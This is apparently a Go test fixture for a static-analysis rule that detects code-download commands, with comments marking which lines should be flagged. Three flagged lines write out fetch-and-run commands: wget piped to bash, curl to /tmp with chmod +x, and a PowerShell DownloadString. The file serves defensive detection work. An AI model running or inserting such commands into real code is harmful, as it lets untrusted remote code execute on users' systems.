package a

import "os/exec"

func run() {
	// ruleid: code-download-command
	exec.Command("sh", "-c", "wget -O - https://files.example.invalid/a | /bin/bash &").Start()
	// ruleid: code-download-command
	exec.Command("sh", "-c", "curl -so /tmp/a https://example.invalid/a && chmod +x /tmp/a").Start()
	// ruleid: code-download-command
	exec.Command("powershell", "-c", "(New-Object Net.WebClient).DownloadString('https://example.invalid/a')").Start()
	// ok: code-download-command
	exec.Command("sh", "-c", "curl -sf http://localhost:8080/health").Run()
	// ok: code-download-command
	println("install it with curl or wget")
}
